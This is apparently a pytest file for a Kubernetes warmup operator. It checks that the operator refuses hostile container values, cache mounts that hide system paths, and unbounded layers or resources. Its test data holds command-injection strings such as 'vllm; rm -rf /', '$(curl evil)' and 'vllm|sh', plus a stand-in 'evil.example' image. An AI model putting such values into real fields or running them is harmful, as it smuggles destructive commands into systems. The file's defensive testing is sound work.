"""CR spec parsing refuses hostile container values itself (reliability: the CRD's patterns may be
bypassed by a CR stored before a schema change)."""

from __future__ import annotations

import pytest
from support.workloads import spec_doc

from warmup_operator.core.kernelwarmup import SpecInvalid, parse_spec

pytestmark = pytest.mark.reliability


HOSTILE_CONTAINER = [
    ("image-semicolon", {"image": "vllm; rm -rf /"}, "spec.warmer.image"),
    ("image-subshell", {"image": "$(curl evil)"}, "spec.warmer.image"),
    ("image-backtick", {"image": "vllm:`id`"}, "spec.warmer.image"),
    ("image-space", {"image": "vllm --privileged"}, "spec.warmer.image"),
    ("image-newline", {"image": "vllm\nrm"}, "spec.warmer.image"),
    ("image-leading-dash", {"image": "-v/:/host"}, "spec.warmer.image"),
    ("image-pipe", {"image": "vllm|sh"}, "spec.warmer.image"),
    ("python-args", {"python": "python3 -c 'import os'"}, "spec.warmer.python"),
    ("python-semicolon", {"python": "python3;id"}, "spec.warmer.python"),
    ("python-var", {"python": "$PYTHON"}, "spec.warmer.python"),
    ("pull-policy", {"imagePullPolicy": "Sometimes"}, "spec.warmer.imagePullPolicy"),
    ("image-not-string", {"image": ["vllm"]}, "spec.warmer.image"),
]


@pytest.mark.parametrize("case_id,warmer,field", HOSTILE_CONTAINER, ids=[c[0] for c in HOSTILE_CONTAINER])
def test_hostile_container_values_are_refused_by_the_operator_itself(case_id, warmer, field):
    """The CRD's patterns catch these at the API; a CR stored before a schema change (or
    created with validation off) must still be refused here, naming the field."""
    with pytest.raises(SpecInvalid) as ei:
        parse_spec(spec_doc(warmer=warmer))
    assert ei.value.field == field, str(ei.value)


def test_bootstrap_image_of_an_older_crd_is_ignored():
    """The bootstrap image is the operator's configuration only (issue 11, item 2): a
    stored CR from an older CRD that still has the field gets the operator's image."""
    spec = parse_spec(spec_doc(warmer={"bootstrapImage": "evil.example/boot:1"}))
    assert not hasattr(spec.container, "bootstrap_image")


def test_valid_image_references_pass():
    for ref in ("vllm/vllm-openai:v0.11.0", "registry.local:5000/a/b@sha256:" + "a" * 64, "ghcr.io/x/y_z-1.2:tag"):
        assert parse_spec(spec_doc(warmer={"image": ref})).container.image == ref



@pytest.mark.parametrize("mount", ["//usr", "/./etc", "//kernel-warmup", "/a/../usr/lib",
                                   "/etc", "/etc/kw", "/usr/lib/python3/dist-packages", "/dev/shm/x", "/var",
                                   "/opt/venv/lib/python3.12/site-packages/kw", "/opt", "/root/.cache",
                                   "/app/.venv", "/srv/py/site-packages", "/usr/local/lib/kw", "/run/kw"])
def test_a_cache_mount_that_hides_the_images_own_files_is_refused(mount):
    """Issue 25 item 4: mounted there, the cache volume would hide system files, Python's
    packages or a model folder the image ships from the server (Ready would stay True)."""
    with pytest.raises(SpecInvalid) as ei:
        parse_spec(spec_doc(cache={"mountPath": mount}))
    assert ei.value.field == "spec.cache.mountPath" and ("would hide" in ei.value.message
                                                        or "package folder" in ei.value.message)


def test_a_mount_path_is_used_as_the_runtime_resolves_it():
    """The review of issue 25's fix: "//usr" passed the checks (posixpath keeps a leading //),
    and the container runtime mounts it on /usr."""
    assert parse_spec(spec_doc(cache={"mountPath": "//cache//kw/./"})).cache.mount_path == "/cache/kw"


@pytest.mark.parametrize("mount", ["/kernel-warmup-cache", "/cache", "/root/.cache/kernel-warmup", "/data/kw",
                                   "/opt/kw-cache", "/tmp/kw", "/var/cache/kw"])
def test_a_cache_folder_of_its_own_is_accepted(mount):
    assert parse_spec(spec_doc(cache={"mountPath": mount})).cache.mount_path == mount


@pytest.mark.parametrize("layers, tp, field, text", [
    ([{"numHeads": 28, "numKvHeads": 4, "headSize": 128}], 8, "spec.tensorParallelSize", "not divisible"),
    ([{"numHeads": 32, "numKvHeads": 8, "headSize": 128}], 3, "spec.tensorParallelSize", "not divisible"),
    ([{"numHeads": 32, "numKvHeads": 8, "headSize": 128, "count": 2_000_000}], 1, "spec.model.layers[0].count",
     "implausibly large"),
    ([{"numHeads": 32, "numKvHeads": 8, "headSize": 128, "count": 40_000}] * 2, 1, "spec.model.layers[1].count",
     "add up"),
    ([{"numHeads": 0, "numKvHeads": 8, "headSize": 128}], 1, "spec.model.layers[0].numHeads", ">= 1"),
])
def test_explicit_layers_that_cannot_run_are_refused_before_the_injection(layers, tp, field, text):
    """Issue 25, Low: a TP that does not divide the layers' heads, or 2M layers, was injected
    with Ready True and failed only at warmup."""
    with pytest.raises(SpecInvalid) as ei:
        parse_spec(spec_doc(model={"layers": layers}, tensorParallelSize=tp))
    assert ei.value.field == field and text in ei.value.message, (ei.value.field, ei.value.message)


def test_explicit_layers_that_split_evenly_are_accepted():
    spec = parse_spec(spec_doc(model={"layers": [{"numHeads": 32, "numKvHeads": 8, "headSize": 128, "count": 32}]},
                               tensorParallelSize=8))
    assert spec.warmer.tensor_parallel_size == 8


@pytest.mark.parametrize("resources, field", [
    ({"limits": {"nvidia.com/gpu": 8}}, "spec.warmer.resources.limits[nvidia.com/gpu]"),
    ({"requests": {"example.com/fpga": 1}}, "spec.warmer.resources.requests[example.com/fpga]"),
    ({"limits": {"memory": "100Ti"}}, "spec.warmer.resources.limits[memory]"),
    ({"requests": {"cpu": "100000"}}, "spec.warmer.resources.requests[cpu]"),
    ({"requests": {"cpu": "lots"}}, "spec.warmer.resources.requests[cpu]"),
    ({"claims": [{"name": "x"}]}, "spec.warmer.resources.claims"),
])
def test_warmer_resources_are_bounded(resources, field):
    """Issue 25, Low: spec.warmer.resources accepted any size or extended resource."""
    with pytest.raises(SpecInvalid) as ei:
        parse_spec(spec_doc(warmer={"resources": resources}))
    assert ei.value.field == field, (ei.value.field, ei.value.message)


def test_ordinary_warmer_resources_are_kept():
    res = {"requests": {"cpu": "500m", "memory": "8Gi"}, "limits": {"memory": "16Gi", "ephemeral-storage": "20G"}}
    assert parse_spec(spec_doc(warmer={"resources": res})).container.resources == res


@pytest.mark.parametrize("empty_dir, ok", [
    ({"medium": "Memory"}, False), ({"medium": "Memory", "sizeLimit": "1Ti"}, False),
    ({"medium": "Memory", "sizeLimit": "8Gi"}, True), ({}, True), ({"sizeLimit": "1Ti"}, True),
])
def test_a_memory_cache_needs_a_bounded_size(empty_dir, ok):
    doc = spec_doc(cache={"emptyDir": empty_dir})
    if ok:
        assert parse_spec(doc).cache.source == {"emptyDir": empty_dir}
    else:
        with pytest.raises(SpecInvalid) as ei:
            parse_spec(doc)
        assert ei.value.field == "spec.cache.emptyDir.sizeLimit"
